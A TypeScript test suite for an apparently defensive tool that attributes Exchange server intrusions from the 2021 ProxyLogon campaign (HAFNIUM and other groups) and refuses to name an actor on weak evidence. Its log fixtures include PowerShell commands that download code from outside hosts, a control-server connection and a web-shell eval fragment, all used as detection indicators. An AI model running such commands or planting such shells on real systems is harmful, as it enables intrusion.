import assert from "node:assert/strict"
import {describe, test} from "node:test"
import {weightOf} from "../src/assess/features.ts"
import type {Actor} from "../src/knowledge/actors.ts"
import type {Attributed, Attribution} from "../src/model/activity.ts"
import {
  actorOf,
  at,
  client,
  type Event,
  entry,
  intrudersOf,
  python,
  suspectsOf,
  whoDid,
} from "./support/suspects.ts"

const refusal =
  "The evidence shows how the server was entered, not by whom. At least 10 groups are publicly known to have used this route. The government attribution of the campaign as a whole (NCSC, highly likely HAFNIUM) is not evidence about this server."
const sportsball = "2fa06333188795110bba14a482020699a96f76fb1ceb80cbfa2df9d3008b5b0a"
function onlyIntruder(who: Attribution): Attributed {
  const [one, ...rest] = intrudersOf(who)
  assert.equal(rest.length, 0, who.activities.map((a) => a.says).join("\n"))
  assert.ok(one?.attributed !== undefined)
  return one.attributed
}

describe("the refusal", () => {
  test("is the sentence as it is laid down, with the count and the claim that knowledge has", () => {
    const who = whoDid(entry("2021-03-03T10:00:00Z"))
    assert.equal(who.kind, "refused")
    assert.equal(who.says, refusal)
    assert.equal(onlyIntruder(who).says, refusal)
    assert.deepEqual(who.routes, [
      {campaign: "hafnium-proxylogon", atLeast: 10, source: "ESET, 10 March 2021"},
    ])
  })

  test("relays what others said, each speaker apart, with date and the speaker's own estimate", () => {
    const {relayed} = whoDid(entry("2021-03-03T10:00:00Z"))
    const eu = relayed.find((c) => c.speaker.startsWith("European Union"))
    assert.deepEqual([eu?.about, eu?.estimate], ["territory", undefined])
    assert.doesNotMatch(eu?.says ?? "", /HAFNIUM (?:is|was)/)
    const nato = relayed.find((c) => c.speaker.startsWith("NATO"))
    assert.equal(nato?.about, "acknowledgement")
    const uk = relayed.filter((c) => c.speaker.startsWith("UK"))
    assert.deepEqual(
      uk.map((c) => [c.about, c.estimate, c.isVerified]),
      [
        ["deed", "highly likely", true],
        ["affiliation", undefined, false],
      ],
    )
    assert.ok(relayed.every((c) => c.date.length === 10 && c.source !== ""))
  })

  test("says so where the entry itself is not shown", () => {
    const who = whoDid([
      at("2021-03-04T10:00:00Z MX1 iis-frontend used", {client, method: "POST", url: "/owa/auth/x.aspx"}),
    ])
    assert.match(
      onlyIntruder(who).says,
      /^The evidence shows what was done on the server, not how it was entered and not by whom\.$/,
    )
  })

  test("is not printed where nobody got in", () => {
    const who = whoDid([
      at("2021-03-04T10:00:00Z MX1 iis-frontend tried", {
        client,
        method: "POST",
        url: "/ecp/y.js",
        status: "404",
      }),
    ])
    assert.deepEqual([who.kind, who.relayed], ["none", []])
  })

  test("holds for a route of which nobody counted the users, without a number", () => {
    const who = whoDid([
      at("2021-08-20T10:00:00Z MX1 httpproxy shell-way", {client, url: "/autodiscover/autodiscover.json"}),
    ])
    assert.doesNotMatch(who.says, /At least/)
    assert.match(who.says, /not by whom\. What governments said about a campaign as a whole is not evidence/)
  })
})

/** SPORTSBALL on the disk, with the break-in at this time. */
const hafnium = (time: string): readonly Event[] => [
  ...entry(time),
  at(`${time} MX1 windows-event written`, {file: "C:\\owa\\auth\\x.aspx", sha256: sportsball}),
]

describe("a name", () => {
  test("comes of two independent groups, one hard to fake: a private shell before others had the exploit", () => {
    const who = whoDid(hafnium("2021-02-10T10:00:00Z"))
    const judged = onlyIntruder(who)
    assert.equal(judged.kind, "named", judged.lacks.join("; "))
    assert.equal(judged.actor, "hafnium")
    assert.equal(who.kind, "named")
    assert.deepEqual(judged.likelihood, {term: "likely", low: 55, high: 75})
    assert.match(
      judged.says,
      /^It is likely \(55–75 %\) that A-001 is the work of the actor that is publicly known as HAFNIUM\./,
    )
    assert.match(judged.says, /says nothing about a state\.$/)
    assert.doesNotMatch(judged.says, /China|Chinese|government/)
  })

  test("is never above likely, however much speaks for it", () => {
    const much = [
      ...hafnium("2021-02-10T10:00:00Z"),
      at("2021-02-10T10:30:00Z MX1 windows-event ran", {
        file: "C:\\owa\\auth\\x.aspx",
        commandLine: 'eval(Request["fqrspt"])',
      }),
    ]
    const judged = onlyIntruder(whoDid(much))
    assert.ok((judged.hypotheses[0]?.posterior ?? 0) > 0.55)
    assert.equal(judged.likelihood?.term, "likely")
  })

  const mikroceen: readonly Event[] = [
    ...entry("2021-03-04T10:00:00Z"),
    at("2021-03-04T10:10:00Z MX1 windows-event ran", {
      image: "C:\\Users\\Public\\z.exe",
      commandLine: "z.exe 172.105.18.72 443",
      file: "C:\\owa\\auth\\x.aspx",
    }),
    at("2021-03-04T10:20:00Z MX1 windows-event written", {
      file: "C:\\owa\\auth\\x.aspx",
      hashes: "SHA1=123CF9013FA73C4E1F8F68905630C8B5B481FCE7",
    }),
  ]

  test("comes of a private control server and a private program, whatever the date", () => {
    // Both stand beside the same page, which would make them one group: here they are told apart by their file.
    const apart = mikroceen.slice(0, 3).concat(
      at("2021-03-04T10:20:00Z MX1 windows-event written", {
        image: "C:\\Users\\Public\\z.exe",
        commandLine: "x.aspx",
        hashes: "SHA1=123CF9013FA73C4E1F8F68905630C8B5B481FCE7",
      }),
    )
    const judged = onlyIntruder(whoDid(apart))
    assert.equal(judged.actor, "mikroceen", judged.lacks.join("; "))
  })

  test("does not come of two features of one file: they are one group", () => {
    const judged = onlyIntruder(whoDid(mikroceen))
    assert.equal(judged.kind, "refused")
    const own = judged.hypotheses.find((h) => h.id === "mikroceen")
    assert.deepEqual(
      [...new Set(own?.features.filter((f) => f.log10 > 0).map((f) => f.group))],
      ["infrastructure and tool"],
    )
    assert.match(judged.lacks.join("; "), /fewer than 2 independent groups/)
  })

  const cases: readonly {readonly story: string; readonly who: Attribution; readonly lacks: RegExp}[] = [
    {
      story: "a shell that was published the day before",
      who: whoDid(hafnium("2021-03-03T10:00:00Z")),
      lacks: /fewer than 2 independent groups/,
    },
    {
      story: "low confidence in what was done",
      who: whoDid(hafnium("2021-02-10T10:00:00Z"), {confidence: "low"}),
      lacks: /analytic confidence is low/,
    },
    {
      story: "a rival with as much",
      who: whoDid([
        ...hafnium("2021-02-10T10:00:00Z"),
        at("2021-02-10T11:00:00Z MX1 windows-event ran", {
          image: "C:\\x.exe",
          commandLine: "x.aspx",
          hashes: "SHA1=84F4AEAB426CE01334FD2DA3A11D981F6D9DCABB",
        }),
      ]),
      lacks: /not ten times likelier than Websiic/,
    },
    {
      story: "features that nobody checked",
      who: whoDid(hafnium("2021-02-10T10:00:00Z"), {actors: [unchecked(actorOf("hafnium"))]}),
      lacks: /fewer than 2 independent groups of verified features/,
    },
  ]
  for (const {story, who, lacks} of cases) {
    test(`is refused for ${story}`, () => {
      const judged = onlyIntruder(who)
      assert.equal(judged.kind, "refused")
      assert.match(judged.lacks.join("; "), lacks)
      assert.equal(judged.says, refusal)
    })
  }

  test("is given to one activity and not to its neighbour on the same server", () => {
    const other = "198.51.100.9"
    const who = whoDid([
      ...hafnium("2021-02-10T10:00:00Z"),
      at("2021-03-05T10:00:00Z MX1 httpproxy exploit", {
        client: other,
        userAgent: "curl/7",
        url: "/ecp/z.js",
      }),
      at("2021-03-05T10:01:00Z MX1 iis-frontend used", {
        client: other,
        userAgent: "curl/7",
        method: "POST",
        url: "/owa/auth/two.aspx",
        status: "200",
      }),
      at("2021-03-05T10:01:01Z MX1 windows-event ran", {
        image: "powershell.exe",
        commandLine: "powershell iwr http://p.estonine.com/p two.aspx",
      }),
    ])
    const [first, second] = intrudersOf(who)
    assert.equal(first?.attributed?.actor, "hafnium")
    assert.equal(second?.attributed?.kind, "refused")
    assert.deepEqual(
      second?.attributed?.hypotheses.filter((h) => h.kind === "actor").map((h) => h.id),
      ["dltminer"],
    )
    assert.match(
      who.says,
      /^Two intruders .* likely \(55–75 %\) that A-001 .*HAFNIUM.* The evidence shows how the server was entered, not by whom\./,
    )
  })

  test("does not pass to another by an alias", () => {
    const twin: Actor = {
      ...actorOf("websiic"),
      id: "twin",
      name: "Twin",
      aliases: actorOf("hafnium").aliases,
      features: [],
    }
    const suspects = suspectsOf(whoDid(hafnium("2021-02-10T10:00:00Z"), {actors: [actorOf("hafnium"), twin]}))
    assert.deepEqual([...suspects.keys()], ["hafnium"])
  })
})

function unchecked(actor: Actor): Actor {
  return {...actor, features: actor.features.map((f) => ({...f, isVerified: false}))}
}

describe("a feature", () => {
  const server = (time: string): readonly Event[] => [
    ...entry("2021-03-03T10:00:00Z"),
    at(`${time} MX1 windows-event ran`, {
      image: "powershell.exe",
      commandLine: "powershell iwr http://mm.portomnail.com/a x.aspx",
    }),
  ]

  test("counts within its time, first and last day included", () => {
    for (const time of ["2021-01-01T00:00:00Z", "2021-03-05T10:00:00Z", "2021-06-30T23:59:59Z"]) {
      const winnti = suspectsOf(whoDid(server(time))).get("winnti")
      assert.equal(winnti?.log10, 0.9, time)
    }
  })

  test("outside its time, or without a time, does not count and is said to be seen", () => {
    for (const time of ["2020-12-31T23:59:59Z", "2021-07-01T00:00:00Z", "-"]) {
      const judged = onlyIntruder(whoDid(server(time)))
      assert.ok(!judged.hypotheses.some((h) => h.id === "winnti"), time)
      const aside = judged.aside.find((f) => f.actors.includes("winnti") && f.kind === "control-server")
      assert.match(aside?.why ?? "", time === "-" ? /time of this sighting is not known/ : /outside its time/)
    }
  })

  test("is not shown by a request for it that was not answered", () => {
    const who = whoDid([
      ...entry("2021-03-03T10:00:00Z"),
      at("2021-03-03T10:05:00Z MX1 iis-frontend tried", {
        client,
        userAgent: python,
        method: "GET",
        url: "/aspnet_client/log_error_9e23efc3.aspx",
        status: "404",
      }),
    ])
    assert.equal(suspectsOf(who).size, 0)
    const answered = whoDid([
      ...entry("2021-03-03T10:00:00Z"),
      at("2021-03-03T10:05:00Z MX1 iis-frontend used", {
        client,
        userAgent: python,
        method: "POST",
        url: "/aspnet_client/log_error_9e23efc3.aspx",
        status: "200",
      }),
    ])
    assert.deepEqual([...suspectsOf(answered).keys()], ["mikroceen"])
  })

  test("is found as a path, as an address under which it is served, as a service and as a subdomain", () => {
    const shown: readonly (readonly [string, Event])[] = [
      [
        "tonto-team",
        at("2021-03-04T10:00:00Z MX1 windows-event written", {
          file: "D:\\inetpub\\wwwroot\\aspnet_client\\dukybySSSS.aspx",
        }),
      ],
      [
        "opera-cobalt-strike",
        at("2021-03-04T10:00:00Z MX1 windows-event ran", {
          image: "C:\\Users\\Public\\opera\\opera_browser.exe",
          commandLine: "opera_browser.exe x.aspx",
        }),
      ],
      [
        "dearcry",
        at("2021-03-04T10:00:00Z MX1 windows-event service", {target: "msupdate", commandLine: "x.aspx"}),
      ],
      [
        "calypso",
        at("2021-03-04T10:00:00Z MX1 windows-event ran", {
          image: "a.exe",
          commandLine: "a.exe https://cdn.yolkish.com/x x.aspx",
        }),
      ],
    ]
    for (const [id, event] of shown) {
      const all = intrudersOf(whoDid([...entry("2021-03-04T10:00:00Z"), event]))
      const named = all.flatMap((a) => a.attributed?.hypotheses ?? []).map((h) => h.id)
      assert.ok(named.includes(id), `${id}: ${named}`)
    }
  })

  test("weighs less the more show it, the cheaper it is and if nobody checked it; techniques weigh nothing", () => {
    const base = {kind: "file-hash" as const, log10Low: 1.5, sharedBy: 1, isVerified: true}
    assert.equal(weightOf(base, "dear"), 1.5)
    assert.equal(weightOf({...base, sharedBy: 10}, "dear"), 0.5)
    assert.equal(weightOf({...base, sharedBy: 100}, "dear"), 0)
    assert.equal(weightOf(base, "moderate"), 1)
    assert.ok(weightOf(base, "cheap") <= Math.log10(3))
    assert.equal(weightOf({...base, isVerified: false}, "dear"), 0.75)
    assert.equal(weightOf({...base, kind: "technique"}, "dear"), 0)
  })

  test("of a date says who had the exploit then, and after 2 March 2021 nothing", () => {
    const dated = (day: string): readonly string[] => [
      ...suspectsOf(whoDid(entry(`${day}T10:00:00Z`))).keys(),
    ]
    assert.deepEqual(dated("2021-01-10"), ["hafnium", "websiic"])
    assert.deepEqual(dated("2021-02-27"), ["hafnium", "websiic"])
    for (const day of ["2021-02-28", "2021-03-02", "2021-03-03", "2024-06-01"])
      assert.deepEqual(dated(day), [], day)
    // The use of a shell in January does not date an entry that is not shown.
    const late = whoDid([
      at("2021-01-10T10:00:00Z MX1 iis-frontend used", {client, method: "POST", url: "/owa/auth/x.aspx"}),
    ])
    assert.equal(suspectsOf(late).size, 0)
  })
})
